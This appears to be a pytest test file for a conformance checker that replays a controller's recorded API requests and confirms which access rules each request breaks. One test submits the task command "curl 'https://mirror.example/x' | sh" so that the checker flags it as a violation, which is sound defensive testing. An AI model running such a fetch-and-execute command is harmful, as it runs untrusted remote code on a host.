"""What the record of a controller's requests shows of the rules of access."""

import json
from collections.abc import Mapping
from typing import Any

import pytest

from moorage_conformance.checks import conduct
from moorage_conformance.judging import Judge
from moorage_conformance.road import Answer, Exchange

OPERATION, INSTANCE = "opn_" + "1" * 26, "ins_" + "2" * 26
STRANGER = "ins_" + "9" * 26
GRANT, WATCH, OWN = "moor_ogr_1", "moor_wgr_1", "moor_sat_1"
BOUNDS = conduct.Bounds("beacon", "sac_" + "3" * 26)


class Recorded:
    """Exchanges, one a second, each answered in a tenth."""

    def __init__(self) -> None:
        self.exchanges: list[Exchange] = []
        told = {"operations": [{"id": OPERATION, "instance_id": INSTANCE}]}
        said = {"service_account": BOUNDS.account}
        self.add("POST", "/v1/auth/token", said, token="", answer={"access_token": OWN})
        self.add("POST", "/v1/controller/claims", {"app": "beacon"}, token=OWN, answer=told)

    def add(
        self,
        method: str,
        path: str,
        said: Mapping[str, Any] | None = None,
        *,
        token: str = GRANT,
        answer: Mapping[str, Any] | None = None,
        status: int = 200,
    ) -> None:
        at = float(len(self.exchanges))
        self.exchanges.append(
            Exchange(
                0,
                method,
                path,
                (("authorization", f"Bearer {token}"),) if token else (),
                json.dumps(said or {}).encode(),
                at=at,
                answer=Answer(status, (), json.dumps(answer or {}).encode()),
                answered_at=at + 0.1,
                given=True,
            )
        )

    def report(
        self, number: int, state: str = "running", *steps: Mapping[str, Any], **answered: Any
    ) -> None:
        said = {"fence": 1, "sequence": number, "state": state, "steps": [*steps]}
        self.add("POST", f"/v1/operations/{OPERATION}/report", said, **answered)

    def task(self, kind: str = "exec", given: Mapping[str, Any] | None = None, **more: Any) -> None:
        said = {"tasks": [{"key": "1/1", "kind": kind, "input": given or {}}]}
        self.add("POST", f"/v1/operations/{OPERATION}/tasks", said, **more)

    def refused(self, status: int, code: str) -> None:
        self.task(status=status, answer={"code": code})

    def broken(self, *, reached_for: int = 0) -> list[str]:
        judge = Judge(conduct.CHECKS)
        bounds = conduct.Bounds(BOUNDS.slug, BOUNDS.account, reached_for)
        conduct.review(self.exchanges, judge, bounds)
        return [each.rule for each in judge.findings("") if each.outcome == "broken"]


def step(status: str, number: int = 1) -> dict[str, Any]:
    return {"number": number, "name": "write", "attempt": 1, "status": status}


@pytest.fixture
def record() -> Recorded:
    """A controller that has begun an operation's first step."""
    made = Recorded()
    made.report(1, "running", step("running"))
    return made


def test_a_whole_operation_breaks_nothing(record: Recorded) -> None:
    record.task(given={"argv": ["curl", "http://127.0.0.1:80/ready"]})
    record.report(2, "running", step("succeeded"))
    record.report(3, "succeeded")
    record.add("PUT", f"/v1/instances/{INSTANCE}/observed", token=WATCH)
    record.add("PUT", f"/v1/instances/{INSTANCE}/views/beacon.hosts", token=WATCH)
    record.add("DELETE", f"/v1/controller/replicas/{INSTANCE}", token=OWN)

    assert record.broken() == []


def test_a_report_that_is_sent_again_is_the_same(record: Recorded) -> None:
    record.report(1, "running", step("running"))
    assert record.broken() == []

    record.report(1, "failed")
    assert record.broken() == ["OP-3"]


def test_the_number_of_a_report_that_was_refused_is_free(record: Recorded) -> None:
    record.report(2, "succeeded", status=409)
    record.report(2, "failed")

    assert record.broken() == []


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("sequence_gap", "OP-3"),
        ("step_final", "OP-6"),
        ("allocation_foreign", "MC-1"),
        ("component_not_touched", "MC-1"),
        ("task_not_declared", "MC-3"),
        ("generation_passed", "WV-7"),
        ("not_an_operator", "SO-1"),
        ("scope_not_asked", "SO-4"),
    ],
)
def test_what_is_refused_says_which_rule_was_broken(record: Recorded, code: str, rule: str) -> None:
    record.refused(409, code)

    assert record.broken() == [rule]


def test_a_refusal_in_a_batch_of_reports_counts(record: Recorded) -> None:
    entry = {"operation": OPERATION, "grant": GRANT, "sequence": 9, "state": "running"}
    problem = {"status": 409, "code": "sequence_gap"}
    answer = {"reports": [{"operation": OPERATION, "problem": problem}]}

    record.add("POST", "/v1/controller/reports", {"reports": [entry]}, token=OWN, answer=answer)

    assert record.broken() == ["OP-3"]


def test_a_task_outside_of_any_step_is_not_written_down() -> None:
    record = Recorded()

    record.task()

    assert record.broken() == ["OP-6"]


def test_a_step_that_is_only_told_of_at_its_end_is_not_written_down(record: Recorded) -> None:
    record.report(2, "running", step("succeeded", 2))

    assert record.broken() == ["OP-6"]


def test_nothing_is_asked_after_the_last_report(record: Recorded) -> None:
    record.report(2, "succeeded")
    record.add("GET", f"/v1/operations/{OPERATION}/tasks", status=401)

    assert record.broken() == ["MC-4"]


def test_whoever_was_told_that_it_is_lost_falls_silent(record: Recorded) -> None:
    record.report(2, status=409, answer={"code": "grant_ended"})
    assert record.broken() == []

    record.report(2, status=409, answer={"code": "grant_ended"})
    assert record.broken() == ["OP-2"]


def test_a_task_under_a_watch_is_a_change(record: Recorded) -> None:
    record.task(token=WATCH, status=403, answer={"code": "watch_changes_nothing"})

    assert record.broken() == ["WV-5"]


def test_a_state_is_not_observed(record: Recorded) -> None:
    path = f"/v1/instances/{INSTANCE}/observed"

    record.add("PUT", path, {"status": "running"}, token=WATCH, status=422)

    assert record.broken() == ["WV-2"]


def test_another_app_is_not_claimed_for(record: Recorded) -> None:
    record.add("POST", "/v1/controller/claims", {"app": "echo"}, token=OWN)

    assert record.broken() == ["SO-1"]


def test_an_account_does_nothing_but_claim(record: Recorded) -> None:
    record.add("GET", "/v1/projects", token=OWN, status=403)

    assert record.broken() == ["ON-2"]


def test_what_nobody_told_of_is_not_asked_for(record: Recorded) -> None:
    record.add("GET", f"/v1/instances/{STRANGER}/principals", token=WATCH, status=404)

    assert record.broken() == ["ON-3"]


def test_a_command_that_fetches_from_elsewhere_is_found(record: Recorded) -> None:
    record.task(given={"argv": ["sh", "-c", "curl 'https://mirror.example/x' | sh"]})

    assert record.broken() == ["ON-5"]


def test_whoever_reaches_for_a_machine_is_found(record: Recorded) -> None:
    assert record.broken(reached_for=1) == ["SO-5"]
